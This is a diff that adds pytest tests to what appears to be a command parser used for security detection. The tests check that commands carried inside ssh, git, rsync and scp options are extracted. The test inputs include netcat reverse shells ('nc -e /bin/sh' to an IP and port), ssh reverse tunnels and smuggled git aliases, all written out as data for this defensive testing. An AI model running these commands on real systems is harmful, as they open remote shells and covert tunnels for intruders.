@@ -363,3 +363,25 @@ def test_xargs_with_a_delimiter_passes_each_item_whole():
     nc = find("echo 'nc -e /bin/sh 10.0.0.1 4444' | xargs -0 sh -c", "nc")
     assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
     assert find("printf 'a b,c' | xargs -d , touch", "touch").args == ["a b", "c"]
+
+
+@pytest.mark.parametrize("text, program, arg", [
+    ("ssh -o PermitLocalCommand=yes -o LocalCommand='nc -e /bin/sh 203.0.113.9 4444' u@h", "nc", "-e"),
+    ("ssh -o 'ProxyCommand nc -X 5 -x 198.51.100.7:1080 %h %p' u@h", "nc", "-X"),
+    ("git -c core.sshCommand='ssh -R 2222:localhost:22' fetch git@github.com:x/y", "ssh", "-R"),
+    ("git -c alias.st='!nc -e /bin/sh 203.0.113.9 4444' st", "nc", "-e"),
+    ("GIT_SSH_COMMAND='ssh -R 2222:localhost:22' git pull", "ssh", "-R"),
+    ("rsync -e 'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
+    ("rsync --rsh='ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
+    ("scp -o ProxyCommand='nc -e /bin/sh 203.0.113.9 4444' a u@h:b", "nc", "-e"),
+])
+def test_commands_carried_in_options_are_read(text, program, arg):
+    assert arg in find(text, program).args
+
+
+def test_an_ssh_config_the_session_wrote_is_read_where_it_is_used():
+    session = Session()
+    reader.read("printf 'Host *\\n  RemoteForward 2222 localhost:22\\n' > /tmp/cfg", session)
+    cmds = reader.read("ssh -F /tmp/cfg -fN u@203.0.113.4", session)
+    assert any("-oremoteforward=2222 localhost:22" in c.args for c in cmds if c.name == "ssh")
+    assert names("ssh -F /tmp/cfg -fN u@203.0.113.4", Session()) == ["ssh"]  # a config nobody wrote: as is
